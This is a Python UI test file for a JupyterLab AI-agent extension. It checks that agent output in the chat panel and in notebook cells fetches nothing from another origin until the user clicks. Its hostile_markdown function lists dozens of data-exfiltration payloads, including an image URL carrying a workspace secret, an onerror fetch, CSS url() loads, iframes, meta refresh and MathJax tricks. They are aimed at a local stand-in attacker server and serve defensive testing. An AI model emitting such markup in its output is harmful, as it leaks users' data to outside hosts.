"""Agent output loads nothing from another origin without a click, in the panel and in cells.

A real HTTP listener on 127.0.0.1 (another port: another origin) stands for an attacker's
server; a scripted model answers with every way markup can make a browser fetch from it.
The listener must see nothing until the user clicks a placeholder, and then one request.
"""

from __future__ import annotations

import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from terax_jupyter.testing.model_stub import slow, text, tool_call

from .ai_helpers import TIMEOUT_MS, ask, open_panel
from .helpers import DARK, LIGHT, artifact_name, change_theme, write
from .test_notebook import command, notebook, open_notebook

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Page

    from terax_jupyter.testing.model_stub import ModelStub

    from .conftest import LabServer

pytestmark = pytest.mark.ui


def _png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


class Listener(ThreadingHTTPServer):
    """Someone else's server: records every connection and request, answers with a PNG."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.connections = 0
        self.paths: list[str] = []
        self.lock = threading.Lock()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def verify_request(self, request: Any, client_address: Any) -> bool:
        # A preconnect opens a connection and sends nothing: count connections too.
        with self.lock:
            self.connections += 1
        return True

    def reset(self) -> None:
        with self.lock:
            self.connections = 0
            self.paths.clear()


class _Handler(BaseHTTPRequestHandler):
    server: Listener
    image = _png(96, 48, (230, 90, 40))

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        with self.server.lock:
            self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(self.image)))
        self.end_headers()
        self.wfile.write(self.image)

    do_POST = do_GET


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def hostile_markdown(origin: str) -> str:
    """Every way agent markup could fetch from ``origin`` on its own."""
    o = origin
    return f"""Here is what I found.

![chart]({o}/md.png?data=SECRET_FROM_THE_WORKSPACE)

![ref image][ref]

[ref]: {o}/reference.png

[![badge]({o}/badge.png)]({o}/badge-link)

<img src="{o}/raw.png?d=1" alt="raw">
<img srcset="{o}/srcset.png 2x" alt="only a srcset">
<img src="data:," onerror="fetch('{o}/onerror')">
<img src="{o}/lazy.png" loading="lazy">
<picture><source srcset="{o}/picture.webp"><img src="{o}/picture.png" alt="picture"></picture>
<div style="background:url({o}/style.png)">styled</div>
<div style="background-image:image-set('{o}/image-set.png' 1x)">image-set</div>
<p style="list-style-image: url({o}/list.png); cursor: url({o}/cursor.png), auto">list</p>
<svg><image href="{o}/svg.png" width="10" height="10"/><use href="{o}/use.svg#a"/></svg>
<video poster="{o}/poster.png" src="{o}/video.mp4" controls></video>
<video><source src="{o}/source.mp4"><track src="{o}/track.vtt"></video>
<audio src="{o}/audio.mp3" autoplay></audio>
<input type="image" src="{o}/input.png">
<link rel="prefetch" href="{o}/prefetch"><link rel="preconnect" href="{o}">
<link rel="stylesheet" href="{o}/style.css">
<meta http-equiv="refresh" content="0;url={o}/refresh">
<style>@import url({o}/import.css); p {{ background: url({o}/sheet.png) }}</style>
<iframe src="{o}/iframe"></iframe>
<object data="{o}/object"></object>
<embed src="{o}/embed">
<table background="{o}/table.png"><tr><td background="{o}/td.png">cell</td></tr></table>
<form action="{o}/form"><button>send</button></form>
<button data-commandlinker-command="console:create">Open a console</button>
<a href="{o}/link" ping="{o}/ping">a plain link</a>

Math: $\\style{{background-image:url({o}/math.png)}}{{x}}$ and
$\\bbox[background:url({o}/bbox.png)]{{y}}$ and $\\href{{{o}/href}}{{z}}$.

Done reading.
"""


def test_the_panel_loads_nothing_remote_until_a_click(
    root_lab: LabServer,
    page: Page,
    model_stub: ModelStub,
    listener: Listener,
    request: pytest.FixtureRequest,
) -> None:
    origin = listener.origin
    browser_requests: list[str] = []
    page.on(
        "request", lambda r: browser_requests.append(r.url) if r.url.startswith(origin) else None
    )
    write(root_lab.root / "hostile.md", hostile_markdown(origin))
    command = f"echo '<img src=\"{origin}/approval.png\">' ![x]({origin}/approval-md.png)"
    model_stub.script(
        [
            # A tool's result and an approval card carry the same markup.
            tool_call("read_file", {"path": "hostile.md"}, text="Let me read it."),
            tool_call("bash_run", {"command": command}),
            # The answer streams: every partial render is checked too.
            slow(text(hostile_markdown(origin), chunk=60), 0.01),
        ]
    )
    panel = open_panel(page)
    ask(panel, "What is in hostile.md?")
    card = panel.locator(".jp-TeraxAi-approval")
    expect(card).to_be_visible(timeout=TIMEOUT_MS)
    expect(card.locator(".jp-TeraxAi-approvalCommand")).to_contain_text(f"{origin}/approval.png")
    card.get_by_role("button", name="Deny").click()

    answer = panel.locator(".jp-TeraxAi-markdown").last
    expect(answer).to_contain_text("Done reading.", timeout=TIMEOUT_MS)
    expect(panel.locator(".jp-TeraxAi-send")).to_be_visible(timeout=TIMEOUT_MS)
    # The tool's result shows the markup as text.
    tool = panel.locator(".jp-TeraxAi-tool[data-tool='read_file']")
    tool.locator(".jp-TeraxAi-toolHeader").click()
    expect(tool.locator(".jp-TeraxAi-toolBody")).to_contain_text(f"{origin}/raw.png")

    # Remote images, videos and sounds are placeholders that name the host.
    host = origin.removeprefix("http://")
    placeholders = answer.locator(".jp-TeraxAi-remote")
    expect(placeholders.first).to_be_visible()
    labels = placeholders.locator("button").all_inner_texts()
    assert labels.count(f"Load image from {host}") >= 6, labels
    assert f"Load video from {host}" in labels
    assert f"Load audio from {host}" in labels
    # What is left of the markup points nowhere unasked: links, and the placeholders' URLs.
    sources = answer.evaluate("e => [...e.querySelectorAll('img')].map(i => i.src)")
    assert all(src.startswith("data:") for src in sources), sources
    pointing = answer.evaluate(
        """(e, origin) => [...e.querySelectorAll('*')].flatMap(el => [...el.attributes]
            .filter(a => a.value.includes(origin)).map(a => `${el.localName}[${a.name}]`))""",
        origin,
    )
    assert set(pointing) <= {"a[href]", "a[title]", "span[data-url]", "button[title]"}, pointing
    assert answer.locator("a", has_text="a plain link").get_attribute("href") == f"{origin}/link"
    assert answer.locator("a[ping]").count() == 0
    # Lab's command linker runs a command for any element that names one: none does.
    assert answer.locator("[data-commandlinker-command]").count() == 0
    # Math is still typeset (by Lab's MathJax, after the check; checked again after it).
    expect(answer.locator("mjx-container")).to_have_count(3)

    # No request, not even a connection, reached the other origin.
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
    assert listener.paths == []
    assert browser_requests == []
    placeholders.first.scroll_into_view_if_needed()
    panel.screenshot(path=artifact_name(request, "-placeholders-light"))
    change_theme(page, DARK)
    try:
        placeholders.first.scroll_into_view_if_needed()
        panel.screenshot(path=artifact_name(request, "-placeholders-dark"))
    finally:
        change_theme(page, LIGHT)

    # A click is the user's choice: that one image loads, and only it.
    first = placeholders.filter(has_text="chart").first
    first.get_by_role("button").click()
    image = answer.locator(f"img[src='{origin}/md.png?data=SECRET_FROM_THE_WORKSPACE']")
    expect(image).to_be_visible(timeout=TIMEOUT_MS)
    page.wait_for_function(
        "img => img.complete && img.naturalWidth === 96", arg=image.element_handle()
    )
    assert listener.paths == ["/md.png?data=SECRET_FROM_THE_WORKSPACE"]
    assert listener.connections >= 1
    assert browser_requests == [f"{origin}/md.png?data=SECRET_FROM_THE_WORKSPACE"]
    image.scroll_into_view_if_needed()
    panel.screenshot(path=artifact_name(request, "-loaded"))

    # A badge inside a link: the click loads the image and does not follow the link.
    pages = len(page.context.pages)
    placeholders.filter(has_text="badge").get_by_role("button").click()
    expect(answer.locator(f"a[href='{origin}/badge-link'] img")).to_be_visible()
    assert "/badge.png" in listener.paths
    assert "/badge-link" not in listener.paths
    assert len(page.context.pages) == pages


def test_a_notebook_cell_shows_agent_output_without_loading_it(
    root_lab: LabServer,
    page: Page,
    model_stub: ModelStub,
    listener: Listener,
    request: pytest.FixtureRequest,
) -> None:
    origin = listener.origin
    browser_requests: list[str] = []
    page.on(
        "request", lambda r: browser_requests.append(r.url) if r.url.startswith(origin) else None
    )
    model_stub.script([text(hostile_markdown(origin), chunk=80)])
    cell = (
        "import terax_jupyter.notebook as terax\nresult = terax.agent().ask('Summarise')\nresult\n"
    )
    write(root_lab.root / "output.ipynb", notebook(cell))
    panel = open_notebook(page, "output.ipynb")
    command(page, "notebook:run-all-cells", wait=False)
    view = panel.locator(".terax-nb-agent")
    expect(view).to_have_attribute("data-status", "finished", timeout=60_000)
    expect(view.locator(".terax-nb-items")).to_contain_text(f"{origin}/md.png")  # as text
    # The result's own display (Markdown, rendered by Lab as a trusted output) as well.
    shown = panel.locator(".jp-RenderedMarkdown").last
    expect(shown).to_contain_text("Done reading.", timeout=TIMEOUT_MS)
    expect(shown).to_contain_text(f'<img src="{origin}/raw.png?d=1"')
    assert panel.locator(".jp-OutputArea img, .jp-OutputArea iframe").count() == 0
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
    assert listener.paths == []
    assert browser_requests == []
    page.screenshot(path=artifact_name(request))


def test_the_rule_editor_says_what_a_rule_does_not_cover(
    root_lab: LabServer, page: Page, request: pytest.FixtureRequest
) -> None:
    panel = open_panel(page)
    rules = panel.locator(".jp-TeraxAi-rules")
    rules.locator("summary").click()
    note = rules.locator(".jp-TeraxAi-ruleNote")
    expect(note).to_contain_text("git log --output")
    expect(note).to_contain_text("pytest --basetemp")
    expect(note).to_contain_text("still ask")
    rules.get_by_label("Command prefix").fill("git log")
    rules.get_by_role("button", name="Add").click()
    expect(rules.locator(".jp-TeraxAi-rule")).to_have_count(1, timeout=TIMEOUT_MS)
    expect(rules.locator(".jp-TeraxAi-rule").first).to_contain_text("commands starting with")
    # A rule without a prefix covers everything, and says so.
    rules.get_by_role("button", name="Add").click()
    expect(rules.locator(".jp-TeraxAi-rule")).to_have_count(2, timeout=TIMEOUT_MS)
    expect(rules.locator(".jp-TeraxAi-ruleWarning")).to_have_text(
        "every call, whatever it writes or runs"
    )
    rules.scroll_into_view_if_needed()
    panel.screenshot(path=artifact_name(request, "-light"))
    change_theme(page, DARK)
    try:
        panel.screenshot(path=artifact_name(request, "-dark"))
    finally:
        change_theme(page, LIGHT)
